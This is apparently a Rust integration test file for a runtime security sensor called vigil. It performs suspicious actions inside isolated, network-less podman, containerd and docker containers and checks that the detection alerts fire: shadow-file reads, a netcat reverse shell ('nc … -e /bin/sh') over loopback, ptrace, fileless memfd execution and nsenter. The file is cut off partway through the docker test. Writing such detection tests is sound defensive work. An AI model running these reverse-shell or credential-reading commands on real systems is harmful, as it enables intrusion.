//! `vigil run` and `vigil capture` against real containers: podman 4 with runc, an image built
//! offline from busybox-static (plus a small static helper compiled here for ptrace and memfd
//! exec), private storage under a temporary directory, no network. The tests do real things
//! inside the containers and check that the embedded default rules fire with the right
//! container, process and fd fields, live and from the capture recorded meanwhile; and the
//! same in a containerd container laid out as Kubernetes' CRI leaves it (a private
//! containerd daemon, driven with ctr), and in a docker container (a private dockerd).
//!
//! Needs root, podman, runc, busybox-static, containerd, dockerd and a C compiler with a static libc
//! (the packages in `scripts/apt-packages`). Without them the tests are skipped with a message,
//! unless `CI` is set: CI runs as root with those packages, so there a missing piece is a
//! failure, not a silent pass.

mod live_common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use live_common::{
    Sensor, alert_ns, dump, field, in_ci, is_root, now_ns, parse_alerts, run_ok, serial, sh,
};

use serde_json::Value as Json;

fn works(cmd: &str, args: &[&str]) -> bool {
    Command::new(cmd)
        .args(args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// `tool ARGS` (`cmd` with `args` added, stdin closed), asserting success; its stdout.
fn stdout_of(tool: &str, args: &[&str], mut cmd: Command) -> String {
    let out: Output = cmd
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("{tool} {args:?}: {e}"));
    assert!(
        out.status.success(),
        "{tool} {args:?}: {}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Whether the tests can run here; in CI a missing piece panics.
fn can_run() -> bool {
    let root = is_root();
    let missing: Vec<&str> = [
        (!root).then_some("root"),
        (!works("podman", &["--version"])).then_some("podman"),
        (!works("runc", &["--version"])).then_some("runc"),
        (!Path::new(BUSYBOX).exists()).then_some("busybox-static"),
        (!works("cc", &["--version"])).then_some("cc"),
    ]
    .into_iter()
    .flatten()
    .collect();
    if missing.is_empty() {
        return true;
    }
    if in_ci() {
        panic!(
            "CI is set but the live container tests cannot run: missing {} (run scripts/setup --packages-only as root)",
            missing.join(", ")
        );
    }
    eprintln!(
        "skipping live container test: missing {} (set CI=true to make this a failure)",
        missing.join(", ")
    );
    false
}

const BUSYBOX: &str = "/bin/busybox";

/// Podman with its own storage, run root and configuration under a temporary directory
/// (runc as the runtime — crun refuses this machine's cgroup v1+v2 hybrid — ulimits within
/// what root may set without CAP_SYS_RESOURCE, no events log), and a busybox image imported
/// from a tarball. Dropping it removes the containers, the image and the directory.
struct Podman {
    dir: PathBuf,
    image: String,
    containers: Vec<String>,
    /// `/var/lib/containers` did not exist before (podman creates a cache there).
    made_var_lib: bool,
}

impl Podman {
    fn new(tag: &str) -> Podman {
        let dir = std::env::temp_dir().join(format!("vigil-podman-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("mkdir");
        std::fs::write(
            dir.join("containers.conf"),
            "[containers]\n\
             default_ulimits = [\"nofile=20000:20000\", \"nproc=32768:32768\"]\n\
             [engine]\n\
             runtime = \"runc\"\n\
             events_logger = \"none\"\n",
        )
        .expect("containers.conf");
        let mut p = Podman {
            image: format!("localhost/vigil-test-bb:{tag}-{}", std::process::id()),
            made_var_lib: !Path::new("/var/lib/containers").exists(),
            dir,
            containers: Vec::new(),
        };
        p.build_image();
        p
    }

    fn command(&self) -> Command {
        let mut c = Command::new("podman");
        c.env("CONTAINERS_CONF", self.dir.join("containers.conf"))
            .arg("--root")
            .arg(self.dir.join("storage"))
            .arg("--runroot")
            .arg(self.dir.join("run"))
            .arg("--tmpdir")
            .arg(self.dir.join("tmp"))
            .arg("--cgroup-manager")
            .arg("cgroupfs");
        c
    }

    /// `podman ARGS`, asserting success; its stdout.
    fn run(&self, args: &[&str]) -> String {
        stdout_of("podman", args, self.command())
    }

    /// A root filesystem of busybox applets, the helper and a fake shadow file, imported
    /// as an image.
    fn build_image(&mut self) {
        let rootfs = self.dir.join("rootfs");
        for d in [
            "bin",
            "etc",
            "proc",
            "sys",
            "dev",
            "tmp",
            "root",
            "usr/local/bin",
        ] {
            std::fs::create_dir_all(rootfs.join(d)).expect("mkdir rootfs");
        }
        std::fs::copy(BUSYBOX, rootfs.join("bin/busybox")).expect("copy busybox");
        let list = Command::new(BUSYBOX)
            .arg("--list")
            .output()
            .expect("busybox --list");
        for applet in String::from_utf8_lossy(&list.stdout).lines() {
            if applet != "busybox" && !applet.is_empty() {
                let _ = std::os::unix::fs::symlink("busybox", rootfs.join("bin").join(applet));
            }
        }
        let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/live_container/helper.c");
        let out = Command::new("cc")
            .args(["-static", "-O2", "-o"])
            .arg(rootfs.join("bin/vigil-helper"))
            .arg(helper)
            .output()
            .expect("cc runs");
        assert!(
            out.status.success(),
            "cc -static {helper} (needs libc6-dev): {}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::write(rootfs.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n")
            .expect("passwd");
        std::fs::write(rootfs.join("etc/group"), "root:x:0:\n").expect("group");
        std::fs::write(rootfs.join("etc/shadow"), "root:*:19000:0:99999:7:::\n").expect("shadow");
        let tar = self.dir.join("rootfs.tar");
        sh(&format!(
            "tar -C {} -cf {} .",
            rootfs.display(),
            tar.display()
        ));
        self.run(&[
            "import",
            "--change",
            "ENV PATH=/bin:/usr/local/bin",
            "--change",
            "CMD [\"/bin/sh\"]",
            tar.to_str().expect("utf-8"),
            &self.image,
        ]);
    }

    /// The image saved as an archive of `format` (`oci-archive`, `docker-archive`) for
    /// another engine to import.
    fn save(&self, format: &str) -> PathBuf {
        let archive = self.dir.join(format!("image.{format}.tar"));
        self.run(&[
            "save",
            "--format",
            format,
            "-o",
            archive.to_str().expect("utf-8"),
            &self.image,
        ]);
        archive
    }

    /// Start a long-running container (no network); its full id.
    fn start(&mut self, name: &str, extra: &[&str]) -> String {
        let mut args = vec!["run", "-d", "--name", name, "--network", "none"];
        args.extend_from_slice(extra);
        let image = self.image.clone();
        args.extend_from_slice(&[&image, "sleep", "100000"]);
        let id = self.run(&args).trim().to_string();
        assert!(
            id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit()),
            "podman run printed {id:?}"
        );
        self.containers.push(name.to_string());
        id
    }

    /// `podman exec [opts] NAME ARGS…`, asserting success; stdout.
    fn exec(&self, opts: &[&str], name: &str, args: &[&str]) -> String {
        let mut a = vec!["exec"];
        a.extend_from_slice(opts);
        a.push(name);
        a.extend_from_slice(args);
        self.run(&a)
    }
}

impl Drop for Podman {
    fn drop(&mut self) {
        for c in &self.containers {
            let _ = self
                .command()
                .args(["rm", "-f", "-t", "0", c])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
        }
        let _ = self
            .command()
            .args(["rmi", "-f", &self.image])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        let _ = std::fs::remove_dir_all(&self.dir);
        if self.made_var_lib {
            let _ = std::fs::remove_dir_all("/var/lib/containers");
        }
    }
}

/// The first alert of `rule` in container `cid` (12 characters) that `pred` accepts.
fn find<'a>(
    alerts: &'a [Json],
    rule: &str,
    cid: &str,
    pred: impl Fn(&Json) -> bool,
) -> Option<&'a Json> {
    alerts
        .iter()
        .find(|a| a["rule"] == rule && field(a, "container.id") == cid && pred(a))
}

/// `cat /etc/shadow` in container `cid` (12 characters) of image `repo` raised the
/// credential-store alert.
fn assert_shadow_read(alerts: &[Json], cid: &str, repo: &str, ctx: &dyn Fn() -> String) {
    let a = find(
        alerts,
        "Credential Store Read by Untrusted Program",
        cid,
        |a| field(a, "fd.name") == "/etc/shadow",
    )
    .unwrap_or_else(|| panic!("no shadow-read alert in {cid}:\n{}", ctx()));
    assert_eq!(field(a, "proc.name"), "cat", "{a}");
    assert_eq!(field(a, "container.image.repository"), repo, "{a}");
}

#[test]
fn default_rules_fire_inside_podman_containers_with_container_fields() {
    if !can_run() {
        return;
    }
    let _serial = serial();
    let mut podman = Podman::new("live");
    let tag = std::process::id();
    let plain = format!("vigil-plain-{tag}");
    let privileged = format!("vigil-priv-{tag}");
    // Running before the sensor starts: described from the start-up tables.
    let plain_id = podman.start(&plain, &[]);
    let sensor = Sensor::spawn(
        &["run", "--json", "--stats-interval", "1"],
        "Sensor started",
    );
    // Started while the sensor runs: described when its first process execs.
    let priv_id = podman.start(&privileged, &["--privileged", "-v", "/etc:/host-etc:ro"]);

    podman.exec(&[], &plain, &["cat", "/etc/shadow"]);
    podman.exec(
        &[],
        &plain,
        &["sh", "-c", "echo x > /usr/local/bin/vigil-dropped"],
    );
    podman.exec(
        &[],
        &plain,
        &["ln", "-s", "/etc/shadow", "/tmp/shadow-link"],
    );
    // A reverse shell over the container's loopback: a listener that feeds commands, then
    // nc connecting and running sh with its stdin/stdout on the TCP socket. (nc is exec'ed by
    // runc, not by busybox's sh, which re-execs its applets as /proc/self/exe: their comm,
    // and so proc.name, would be `exe`.)
    podman.exec(
        &["-d"],
        &plain,
        &[
            "sh",
            "-c",
            "printf 'echo vigil-reverse-shell\\nexit\\n' | timeout 10 nc -l -p 4444 > /tmp/rs.out",
        ],
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while !podman
        .exec(&[], &plain, &["netstat", "-ltn"])
        .contains(":4444")
    {
        assert!(Instant::now() < deadline, "the listener did not start");
        std::thread::sleep(Duration::from_millis(100));
    }
    podman.exec(&[], &plain, &["nc", "127.0.0.1", "4444", "-e", "/bin/sh"]);
    let got = podman.exec(&[], &plain, &["cat", "/tmp/rs.out"]);
    assert!(
        got.contains("vigil-reverse-shell"),
        "reverse shell output: {got:?}"
    );
    podman.exec(&[], &plain, &["vigil-helper", "ptrace"]);
    // From a shell (a direct child of runc would be taken for runc's own memfd re-exec).
    podman.exec(&[], &plain, &["sh", "-c", "vigil-helper memfd; true"]);
    // From a shell too: the rule leaves the runtime's own children alone.
    podman.exec(&[], &plain, &["sh", "-c", "vigil-helper unshare; true"]);
    // A shell with a terminal, as `kubectl exec -it` / `podman exec -it` give. It lives a
    // while: the terminal is read from /proc when its exec record is converted, which lags
    // on a loaded machine.
    podman.exec(&["-t"], &plain, &["sh", "-c", "sleep 3"]);
    // Entering a namespace from inside a (privileged) container.
    podman.exec(&[], &privileged, &["nsenter", "-n", "-t", "1", "true"]);

    std::thread::sleep(Duration::from_millis(700));
    let (out, log) = sensor.stop_raw("INT");
    let alerts = parse_alerts(&out);
    let ctx = || dump(&alerts, &log);
    let (p, q) = (&plain_id[..12], &priv_id[..12]);
    let repo = podman.image.rsplit_once(':').expect("tag").0;

    let a = find(
        &alerts,
        "Credential Store Read by Untrusted Program",
        p,
        |a| field(a, "fd.name") == "/etc/shadow",
    )
    .unwrap_or_else(|| panic!("no shadow-read alert in {p}:\n{}", ctx()));
    assert_eq!(field(a, "proc.name"), "cat", "{a}");
    assert_eq!(field(a, "proc.cmdline"), "cat /etc/shadow", "{a}");
    assert_eq!(field(a, "container.image.repository"), repo, "{a}");

    let a = find(
        &alerts,
        "File Written Below System Program Directory",
        p,
        |a| field(a, "fd.name") == "/usr/local/bin/vigil-dropped",
    )
    .unwrap_or_else(|| panic!("no write-below-bin alert in {p}:\n{}", ctx()));
    assert_eq!(field(a, "proc.name"), "sh", "{a}");
    assert_eq!(field(a, "container.image.repository"), repo, "{a}");

    let a = find(&alerts, "Symlink Pointing at Sensitive File", p, |_| true)
        .unwrap_or_else(|| panic!("no symlink alert in {p}:\n{}", ctx()));
    assert_eq!(field(a, "proc.name"), "ln", "{a}");
    assert!(
        a["output"]
            .as_str()
            .is_some_and(|o| o.contains("/tmp/shadow-link")),
        "{a}"
    );

    let a = find(
        &alerts,
        "Standard Stream Redirected to Network Socket",
        p,
        |a| {
            field(a, "fd.name")
                .as_str()
                .is_some_and(|f| f.starts_with("127.0.0.1:") && f.ends_with("->127.0.0.1:4444"))
        },
    )
    .unwrap_or_else(|| panic!("no reverse-shell alert in {p}:\n{}", ctx()));
    assert_eq!(field(a, "proc.name"), "nc", "{a}");
    find(&alerts, "Netcat Started with Command Execution", p, |a| {
        field(a, "proc.cmdline") == "nc 127.0.0.1 4444 -e /bin/sh"
    })
    .unwrap_or_else(|| panic!("no netcat -e alert in {p}:\n{}", ctx()));

    let a = find(&alerts, "Process Attached with ptrace", p, |a| {
        a["output"]
            .as_str()
            .is_some_and(|o| o.contains("request=PTRACE_ATTACH"))
    })
    .unwrap_or_else(|| panic!("no ptrace alert in {p}:\n{}", ctx()));
    assert_eq!(field(a, "proc.name"), "vigil-helper", "{a}");
    // The target pid is the container's own number for the forked child (also
    // vigil-helper), resolved in the container's pid namespace, not among the host's pids.
    assert!(
        a["output"]
            .as_str()
            .is_some_and(|o| o.contains("target_pid=vigil-helper ")),
        "{a}"
    );

    let a = find(&alerts, "Fileless Program Execution", p, |a| {
        field(a, "proc.cmdline")
            .as_str()
            .is_some_and(|c| c.ends_with(" noop"))
    })
    .unwrap_or_else(|| panic!("no memfd alert in {p}:\n{}", ctx()));
    assert_eq!(a["priority"], "Critical", "{a}");
    assert_eq!(field(a, "proc.pname"), "sh", "{a}");

    let a = find(&alerts, "Namespace Created by Unexpected Process", p, |a| {
        field(a, "proc.name") == "vigil-helper"
    })
    .unwrap_or_else(|| panic!("no unshare alert in {p}:\n{}", ctx()));
    let flags = field(a, "evt.arg.flags");
    assert!(
        flags == "CLONE_NEWUSER" || flags == &(1u32 << 20).to_string(),
        "{a}"
    );

    let a = find(&alerts, "Interactive Shell Started in Container", p, |a| {
        field(a, "proc.name") == "sh"
    })
    .unwrap_or_else(|| panic!("no terminal-shell alert in {p}:\n{}", ctx()));
    assert!(
        a["output"].as_str().is_some_and(|o| !o.contains("tty=0 ")),
        "{a}"
    );
    assert_eq!(field(a, "container.image.repository"), repo, "{a}");

    let a = find(&alerts, "Privileged Container Started", q, |_| true)
        .unwrap_or_else(|| panic!("no privileged-container alert for {q}:\n{}", ctx()));
    let starts = alerts
        .iter()
        .filter(|a| a["rule"] == "Privileged Container Started" && field(a, "container.id") == q)
        .count();
    assert_eq!(starts, 1, "one container start, one alert:\n{}", ctx());
    assert_eq!(field(a, "container.name"), privileged.as_str(), "{a}");
    assert_eq!(field(a, "container.image.repository"), repo, "{a}");
    assert_eq!(
        field(a, "container.image.tag"),
        podman.image.rsplit_once(':').expect("tag").1,
        "{a}"
    );

    let a = find(&alerts, "Namespace Entered from Inside Container", q, |a| {
        field(a, "proc.name") == "nsenter"
    })
    .unwrap_or_else(|| panic!("no setns-in-container alert in {q}:\n{}", ctx()));
    assert_eq!(field(a, "fd.name"), "/proc/1/ns/net", "{a}");

    // Nothing the container processes did was attributed to the host.
    let misattributed: Vec<&Json> = alerts
        .iter()
        .filter(|a| {
            field(a, "container.id") == "host"
                && (field(a, "fd.name") == "/usr/local/bin/vigil-dropped"
                    || field(a, "proc.name") == "vigil-helper"
                    || field(a, "proc.cmdline") == "nc 127.0.0.1 4444 -e /bin/sh")
        })
        .collect();
    assert!(misattributed.is_empty(), "{misattributed:?}");
    assert!(log.contains("0 dropped"), "{log}");
}

/// What an alert says about an action, container included. An alert on the container event
/// itself names whichever process was exec'ing when that sensor found the runtime's state:
/// the two sensors of the test find it independently, so that process is left out.
fn key(a: &Json) -> (String, String, String, String, String) {
    let s = |v: &Json| v.as_str().map_or_else(|| v.to_string(), str::to_string);
    let on_container_event = a["rule"] == "Privileged Container Started";
    (
        s(&a["rule"]),
        if on_container_event {
            String::new()
        } else {
            s(field(a, "proc.name"))
        },
        s(field(a, "fd.name")),
        s(field(a, "container.id")),
        s(field(a, "container.image.repository")),
    )
}

#[test]
fn container_capture_replays_to_the_same_alerts_and_container_fields() {
    if !can_run() {
        return;
    }
    let _serial = serial();
    let mut podman = Podman::new("replay");
    let tag = std::process::id();
    let plain = format!("vigil-rp-plain-{tag}");
    let privileged = format!("vigil-rp-priv-{tag}");
    let plain_id = podman.start(&plain, &[]);
    let cap = podman.dir.join("live.scap");
    let capture = Sensor::spawn(
        &["capture", "-w", cap.to_str().expect("utf-8")],
        "Capture started",
    );
    let sensor = Sensor::spawn(
        &["run", "--json", "--stats-interval", "0"],
        "Sensor started",
    );
    let t0 = now_ns();
    let priv_id = podman.start(&privileged, &["--privileged"]);
    podman.exec(&[], &plain, &["cat", "/etc/shadow"]);
    podman.exec(
        &[],
        &plain,
        &["sh", "-c", "echo x > /usr/local/bin/vigil-dropped"],
    );
    podman.exec(&[], &plain, &["vigil-helper", "ptrace"]);
    podman.exec(&["-t"], &plain, &["sh", "-c", "sleep 3"]);
    let t1 = now_ns();
    std::thread::sleep(Duration::from_millis(500));
    let (out, log) = sensor.stop_raw("INT");
    let live = parse_alerts(&out);
    let (_, cap_log) = capture.stop_raw("TERM");
    assert!(cap_log.contains(" 0 dropped"), "{cap_log}");

    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["replay", cap.to_str().expect("utf-8"), "--json"])
        .output()
        .expect("vigil replay runs");
    let replay_log = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{replay_log}");
    let replayed = parse_alerts(&String::from_utf8_lossy(&out.stdout));

    // The two sensors see each other: compare what the actions caused.
    let during = |alerts: &[Json]| {
        alerts
            .iter()
            .filter(|a| (t0..=t1).contains(&alert_ns(a)) && field(a, "proc.name") != "vigil")
            .map(key)
            .collect::<BTreeSet<_>>()
    };
    let (l, r) = (during(&live), during(&replayed));
    let ctx = || {
        format!(
            "live:\n{}\nreplayed:\n{}",
            dump(&live, &log),
            dump(&replayed, &replay_log)
        )
    };
    let (p, q) = (&plain_id[..12], &priv_id[..12]);
    let repo = podman.image.rsplit_once(':').expect("tag").0;
    for (rule, proc_name, fd, cid) in [
        (
            "Credential Store Read by Untrusted Program",
            "cat",
            "/etc/shadow",
            p,
        ),
        (
            "File Written Below System Program Directory",
            "sh",
            "/usr/local/bin/vigil-dropped",
            p,
        ),
    ] {
        let k = (
            rule.to_string(),
            proc_name.to_string(),
            fd.to_string(),
            cid.to_string(),
            repo.to_string(),
        );
        assert!(l.contains(&k), "live misses {k:?}:\n{}", ctx());
    }
    for (rule, cid) in [
        ("Process Attached with ptrace", p),
        ("Interactive Shell Started in Container", p),
        ("Privileged Container Started", q),
    ] {
        assert!(
            l.iter().any(|k| k.0 == rule && k.3 == cid && k.4 == repo),
            "live misses {rule} in {cid}:\n{}",
            ctx()
        );
    }
    assert!(
        l == r,
        "live and replayed alerts differ:\nonly live: {:?}\nonly replayed: {:?}\n{}",
        l.difference(&r).collect::<Vec<_>>(),
        r.difference(&l).collect::<Vec<_>>(),
        ctx()
    );
    let name_of = |alerts: &[Json]| {
        alerts
            .iter()
            .find(|a| a["rule"] == "Privileged Container Started" && field(a, "container.id") == q)
            .map(|a| field(a, "container.name").clone())
    };
    assert_eq!(
        name_of(&replayed),
        Some(Json::from(privileged.as_str())),
        "{}",
        ctx()
    );
    assert_eq!(name_of(&live), name_of(&replayed));

    // Every container field of the capture's shadow read, from the file alone.
    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["inspect", cap.to_str().expect("utf-8")])
        .args([
            "--filter",
            "evt.type=openat and fd.name=/etc/shadow and proc.name=cat",
        ])
        .args([
            "-p",
            "%container.id %container.full_id %container.name %container.image %container.type",
        ])
        .output()
        .expect("vigil inspect runs");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let want = format!("{p} {plain_id} {plain} {} podman", podman.image);
    assert!(text.lines().any(|l| l == want), "want {want:?} in:\n{text}");
}

/// A private containerd (root, state and socket under a temporary directory; runc keeps its
/// state in `/run/containerd/runc/<namespace>` whatever the configuration), started by the
/// test and stopped when dropped, with its containers, namespace and cgroups.
struct Containerd {
    dir: PathBuf,
    daemon: Child,
    ns: String,
    ids: Vec<String>,
    cgroups: Vec<String>,
    made_run_dir: bool,
}

impl Containerd {
    fn start(tag: &str) -> Containerd {
        let dir =
            std::env::temp_dir().join(format!("vigil-containerd-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("mkdir");
        let made_run_dir = !Path::new("/run/containerd").exists();
        let default = Command::new("containerd")
            .args(["config", "default"])
            .output()
            .expect("containerd config default");
        assert!(default.status.success());
        let d = dir.display();
        // Private paths; no negative oom_score_adj (root lacks CAP_SYS_RESOURCE here).
        let config: String = String::from_utf8_lossy(&default.stdout)
            .lines()
            .map(|l| {
                if l.starts_with("root = ") {
                    format!("root = \"{d}/root\"")
                } else if l.starts_with("state = ") {
                    format!("state = \"{d}/state\"")
                } else if l.trim() == "address = \"/run/containerd/containerd.sock\"" {
                    format!("  address = \"{d}/containerd.sock\"")
                } else if l.trim() == "restrict_oom_score_adj = false" {
                    l.replace("false", "true")
                } else {
                    l.to_string()
                }
            })
            .map(|l| l + "\n")
            .collect();
        std::fs::write(dir.join("containerd.toml"), config).expect("config");
        let log = std::fs::File::create(dir.join("containerd.log")).expect("log");
        let daemon = Command::new("containerd")
            .arg("--config")
            .arg(dir.join("containerd.toml"))
            .stdout(log.try_clone().expect("log"))
            .stderr(log)
            .spawn()
            .expect("containerd starts");
        let c = Containerd {
            ns: format!("vigil-test-{tag}-{}", std::process::id()),
            dir,
            daemon,
            ids: Vec::new(),
            cgroups: Vec::new(),
            made_run_dir,
        };
        let deadline = Instant::now() + Duration::from_secs(20);
        while !works_env(&c, &["version"]) {
            assert!(
                Instant::now() < deadline,
                "containerd did not come up:\n{}",
                std::fs::read_to_string(c.dir.join("containerd.log")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        c
    }

    fn ctr(&self) -> Command {
        let mut c = Command::new("ctr");
        c.env("CONTAINERD_ADDRESS", self.dir.join("containerd.sock"))
            .args(["-n", &self.ns]);
        c
    }

    /// `ctr -n NS ARGS`, asserting success; stdout.
    fn run(&self, args: &[&str]) -> String {
        stdout_of("ctr", args, self.ctr())
    }
}

fn works_env(c: &Containerd, args: &[&str]) -> bool {
    c.ctr()
        .args(args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

impl Drop for Containerd {
    fn drop(&mut self) {
        let quiet = |args: &[&str]| {
            let _ = self
                .ctr()
                .args(args)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
        };
        for id in &self.ids {
            quiet(&["task", "kill", "-s", "KILL", id]);
        }
        std::thread::sleep(Duration::from_millis(300));
        for id in &self.ids {
            quiet(&["task", "rm", "-f", id]);
            quiet(&["containers", "rm", id]);
        }
        let _ = self.daemon.kill();
        let _ = self.daemon.wait();
        // The cgroups the containers were given, leaf first, in every hierarchy.
        for mount in std::fs::read_dir("/sys/fs/cgroup")
            .into_iter()
            .flatten()
            .filter_map(Result::ok)
        {
            for cg in &self.cgroups {
                let mut p = PathBuf::from(cg.trim_start_matches('/'));
                loop {
                    let _ = std::fs::remove_dir(mount.path().join(&p));
                    if !p.pop() || p.as_os_str().is_empty() {
                        break;
                    }
                }
            }
        }
        let _ = std::fs::remove_dir_all(Path::new("/run/containerd/runc").join(&self.ns));
        if self.made_run_dir {
            let _ = std::fs::remove_dir_all("/run/containerd");
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// A containerd container laid out as the kubelet's CRI calls leave it (cgroup
/// `/kubepods/besteffort/pod<uid>/<id>`, `io.kubernetes.cri.*` annotations), made with ctr:
/// its id, pod and namespace come out as `container.id`, `k8s.pod.name`, `k8s.ns.name`.
#[test]
fn default_rules_fire_inside_a_containerd_container_with_kubernetes_fields() {
    if !can_run() {
        return;
    }
    let ctr_present = works("containerd", &["--version"]) && works("ctr", &["--version"]);
    if !ctr_present {
        assert!(
            !in_ci(),
            "CI is set but containerd/ctr are missing (scripts/apt-packages)"
        );
        eprintln!("skipping containerd test: containerd/ctr missing");
        return;
    }
    let _serial = serial();
    let podman = Podman::new("ctr");
    let archive = podman.save("oci-archive");
    let mut cd = Containerd::start("k8s");
    cd.run(&["images", "import", archive.to_str().expect("utf-8")]);
    // A 64-hex id, as the kubelet's are.
    let id = format!("{:0>64x}", now_ns() ^ u128::from(std::process::id()) << 64);
    let id = &id[id.len() - 64..];
    let pod_uid = format!("vigil{}", std::process::id());
    let cgroup = format!("/kubepods/besteffort/pod{pod_uid}/{id}");
    cd.cgroups.push(cgroup.clone());
    cd.ids.push(id.to_string());
    let image_annotation = format!("io.kubernetes.cri.image-name={}", podman.image);
    cd.run(&[
        "run",
        "-d",
        "--cgroup",
        &cgroup,
        "--annotation",
        "io.kubernetes.cri.container-name=web",
        "--annotation",
        "io.kubernetes.cri.sandbox-name=web-0",
        "--annotation",
        "io.kubernetes.cri.sandbox-namespace=prod",
        "--annotation",
        &image_annotation,
        &podman.image,
        id,
        "sleep",
        "100000",
    ]);
    let sensor = Sensor::spawn(
        &["run", "--json", "--stats-interval", "0"],
        "Sensor started",
    );
    cd.run(&[
        "task",
        "exec",
        "--exec-id",
        "shadow",
        id,
        "cat",
        "/etc/shadow",
    ]);
    // ctr wants a terminal for -t: script(1) gives it one.
    let exec_t = format!(
        "CONTAINERD_ADDRESS={} ctr -n {} task exec -t --exec-id tty {id} sh -c 'sleep 3'",
        cd.dir.join("containerd.sock").display(),
        cd.ns
    );
    run_ok(&["script", "-qec", &exec_t, "/dev/null"]);
    std::thread::sleep(Duration::from_millis(500));
    let (out, log) = sensor.stop_raw("INT");
    let alerts = parse_alerts(&out);
    let ctx = || dump(&alerts, &log);
    let short = &id[..12];
    let repo = podman.image.rsplit_once(':').expect("tag").0;

    assert_shadow_read(&alerts, short, repo, &ctx);

    let a = find(
        &alerts,
        "Interactive Shell Started in Container",
        short,
        |a| field(a, "proc.name") == "sh",
    )
    .unwrap_or_else(|| panic!("no terminal-shell alert in {short}:\n{}", ctx()));
    assert_eq!(field(a, "k8s.pod.name"), "web-0", "{a}");
    assert_eq!(field(a, "k8s.ns.name"), "prod", "{a}");
    assert_eq!(field(a, "container.image.repository"), repo, "{a}");
}

/// The docker client that goes with Debian's dockerd (`docker.io`), else the one on PATH.
fn docker_client() -> &'static str {
    if Path::new("/usr/bin/docker").exists() {
        "/usr/bin/docker"
    } else {
        "docker"
    }
}

/// A private docker daemon (Debian's dockerd): socket, pid file and log under a temporary
/// directory, no bridge and no iptables rules; its data and runtime state stay at the default
/// places (`/var/lib/docker`, `/run/docker`), which is where vigil reads docker's containers.
/// Dropping it removes its containers and images, stops it, and removes `/var/lib/docker` if
/// it made it.
struct Docker {
    dir: PathBuf,
    daemon: Child,
    containers: Vec<String>,
    images: Vec<String>,
    made_var_lib: bool,
}

impl Docker {
    /// `None` (a skip, or a failure in CI) when dockerd is missing or another daemon runs.
    fn start(tag: &str) -> Option<Docker> {
        let missing = !works("dockerd", &["--version"]);
        let busy = works("pgrep", &["-x", "dockerd"]);
        if missing || busy {
            let why = if missing {
                "dockerd is missing (docker.io in scripts/apt-packages)"
            } else {
                "a docker daemon already runs here"
            };
            assert!(!in_ci(), "CI is set but the docker test cannot run: {why}");
            eprintln!("skipping docker test: {why}");
            return None;
        }
        let dir = std::env::temp_dir().join(format!("vigil-docker-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("mkdir");
        let made_var_lib = !Path::new("/var/lib/docker").exists();
        let log = std::fs::File::create(dir.join("dockerd.log")).expect("log");
        let daemon = Command::new("dockerd")
            .arg("-H")
            .arg(format!("unix://{}", dir.join("docker.sock").display()))
            .arg("--pidfile")
            .arg(dir.join("docker.pid"))
            .args(["--bridge=none", "--iptables=false", "--ip6tables=false"])
            .stdout(log.try_clone().expect("log"))
            .stderr(log)
            .spawn()
            .expect("dockerd starts");
        let d = Docker {
            dir,
            daemon,
            containers: Vec::new(),
            images: Vec::new(),
            made_var_lib,
        };
        let deadline = Instant::now() + Duration::from_secs(60);
        while !d
            .command()
            .arg("version")
            .output()
            .is_ok_and(|o| o.status.success())
        {
            assert!(
                Instant::now() < deadline,
                "dockerd did not come up:\n{}",
                std::fs::read_to_string(d.dir.join("dockerd.log")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(200));
        }
        Some(d)
    }

    fn command(&self) -> Command {
        let mut c = Command::new(docker_client());
        c.arg("-H")
            .arg(format!("unix://{}", self.dir.join("docker.sock").display()));
        c
    }

    /// `docker ARGS`, asserting success; its stdout.
    fn run(&self, args: &[&str]) -> String {
        stdout_of("docker", args, self.command())
    }
}

impl Drop for Docker {
    fn drop(&mut self) {
        let quiet = |c: &mut Command| {
            let _ = c.stdout(Stdio::null()).stderr(Stdio::null()).status();
        };
        for c in &self.containers {
            quiet(self.command().args(["rm", "-f", c]));
        }
        for i in &self.images {
            quiet(self.command().args(["rmi", "-f", i]));
        }
        let _ = Command::new("kill")
            .args(["-TERM", &self.daemon.id().to_string()])
            .status();
        let deadline = Instant::now() + Duration::from_secs(30);
        while self.daemon.try_wait().ok().flatten().is_none() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(100));
        }
        let _ = self.daemon.kill();
        let _ = self.daemon.wait();
        let _ = std::fs::remove_dir_all(&self.dir);
        if self.made_var_lib {
            let _ = std::fs::remove_dir_all("/var/lib/docker");
        }
    }
}

/// A docker container started under the sensor: its name and image come from docker's own
/// records (`/var/lib/docker/containers/<id>/config.v2.json`, `hostconfig.json`), found
/// through the runc state docker leaves in `/run/docker/runtime-runc/moby`.
#[test]
fn default_rules_fire_inside_a_docker_container_with_container_fields() {
    if !can_run() {
        return;
    }
    let _serial = serial();
